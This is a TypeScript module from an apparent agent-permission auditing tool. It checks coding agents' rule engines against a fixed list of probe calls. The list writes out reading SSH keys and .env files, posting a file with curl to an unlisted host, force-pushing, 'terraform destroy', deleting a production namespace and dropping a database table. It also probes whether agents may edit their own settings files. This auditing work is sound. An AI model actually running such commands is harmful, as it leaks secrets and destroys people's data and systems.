import type { MatrixProbe, PermissionMatrix } from '../../../shared/contract/permissions.ts';
import type { LaunchContext } from './evaluator.ts';
import type { Asker } from './ask.ts';
import type { ScannedFacts } from './stored-facts.ts';

const folderProbes: readonly MatrixProbe[] = [
  { resource: 'repository', verb: 'read', of: 'its folder', call: 'read: README.md' },
  { resource: 'repository', verb: 'write', of: 'its folder', call: 'write: src/new-file.txt' },
  { resource: 'repository', verb: 'delete', of: 'its folder', call: 'run: rm src/old-file.txt' },
  { resource: 'repository', verb: 'execute', of: 'its folder', call: 'run: make all' },
  { resource: 'home', verb: 'read', of: 'the home', call: 'read: ~/notes.txt' },
  { resource: 'home', verb: 'write', of: 'the home', call: 'write: ~/notes.txt' },
  { resource: 'home', verb: 'delete', of: 'the home', call: 'run: rm ~/notes.txt' },
  { resource: 'secrets', verb: 'read', of: '~/.ssh', call: 'read: ~/.ssh/id_ed25519' },
  { resource: 'secrets', verb: 'read', of: '.env', call: 'read: .env' },
  { resource: 'secrets', verb: 'execute', of: '.env by the shell', call: 'run: cat .env' },
  { resource: 'network', verb: 'read', of: 'any address', call: 'fetch: https://unlisted.example/' },
  { resource: 'network', verb: 'send', of: 'any address', call: 'run: curl -d @README.md https://unlisted.example/' },
  { resource: 'infrastructure', verb: 'delete', of: 'folders', call: 'run: rm -rf build' },
  { resource: 'infrastructure', verb: 'delete', of: 'published history', call: 'run: git push --force origin main' },
  {
    resource: 'infrastructure',
    verb: 'delete',
    of: 'infrastructure as code',
    call: 'run: terraform destroy -auto-approve',
  },
  { resource: 'infrastructure', verb: 'delete', of: 'a cluster', call: 'run: kubectl delete namespace production' },
  {
    resource: 'infrastructure',
    verb: 'delete',
    of: 'cloud resources',
    call: 'run: aws rds delete-db-instance --db-instance-identifier main',
  },
  { resource: 'infrastructure', verb: 'delete', of: 'a database', call: 'run: psql -c "drop table orders"' },
  { resource: 'infrastructure', verb: 'send', of: 'a package registry', call: 'run: npm publish' },
];

/** The file with which a host grants itself more. */
export const ownConfiguration: ReadonlyMap<string, string> = new Map([
  ['claude-code', '.claude/settings.json'],
  ['codex', '.codex/config.toml'],
  ['gemini-cli', '.gemini/settings.json'],
  ['cursor', '.cursor/cli.json'],
  ['vscode-copilot', '.vscode/settings.json'],
  ['opencode', 'opencode.json'],
  ['zed', '.zed/settings.json'],
  ['amazon-q', '.amazonq/cli-agents/default.json'],
  ['kiro', '.kiro/agents/default.json'],
  ['continue', '.continue/config.yaml'],
  ['cline', '.clinerules'],
  ['roo', '.roo/mcp.json'],
  ['kilo', '.kilocode/mcp.json'],
  ['devin', '.devin/mcp_config.json'],
]);

const maxServers = 50;
const maxTools = 20;

/** Every agent that can be asked about against the same calls, and the servers that it uses. */
export function permissionMatrix(
  facts: ScannedFacts,
  asker: Asker,
  scan: number,
  context: LaunchContext,
): PermissionMatrix {
  const agents = asker.agents();
  const known = new Set(agents.map((agent) => agent.id));
  return {
    scan,
    context,
    rows: agents.map((agent) => {
      const configuration = ownConfiguration.get(agent.host);
      const probes: readonly MatrixProbe[] = [
        ...folderProbes,
        ...(configuration === undefined
          ? []
          : [
              {
                resource: 'own-configuration',
                verb: 'write',
                of: configuration,
                call: `edit: ${configuration}`,
              } as const,
            ]),
        ...serverProbes(facts, agent.id),
      ];
      return {
        agent,
        cells: probes.flatMap((probe) => {
          const asked = asker.judge({ agent: agent.id, call: probe.call, context });
          return asked === null ? [] : [{ ...probe, ...asked }];
        }),
      };
    }),
    unknown: facts.all
      .filter((asset) => asset.kind === 'agent' && !known.has(asset.id))
      .map(({ id, name, properties }) => ({
        id,
        name,
        why: `rules of ${String(properties['host'] ?? properties['framework'] ?? 'this agent')} are not evaluated`,
      })),
  };
}

/** The servers that an agent uses, with the tools that are known of them. */
function serverProbes(facts: ScannedFacts, agentId: string): readonly MatrixProbe[] {
  const agent = facts.all.find((asset) => asset.id === agentId);
  const keys = new Set(
    facts
      .relations('uses')
      .filter(({ from, to }) => from.kind === 'agent' && from.key === agent?.key && to.kind === 'mcp-server')
      .map(({ to }) => to.key),
  );
  const tools = new Map(facts.assets('tool').map((tool) => [tool.key, tool.name]));
  return facts
    .assets('mcp-server')
    .filter((server) => keys.has(server.key))
    .slice(0, maxServers)
    .flatMap((server): readonly MatrixProbe[] => {
      const exposed = facts
        .relations('exposes')
        .filter(({ from, to }) => from.kind === 'mcp-server' && from.key === server.key && to.kind === 'tool')
        .flatMap(({ to }) => tools.get(to.key) ?? [])
        .slice(0, maxTools);
      const names = exposed.length === 0 ? ['any_tool'] : exposed;
      return names.map((name) => ({
        resource: 'mcp-server',
        verb: 'execute',
        of: server.name,
        call: `mcp: ${server.name.replace(/[\s/]/g, '_')}/${name}`,
      }));
    });
}
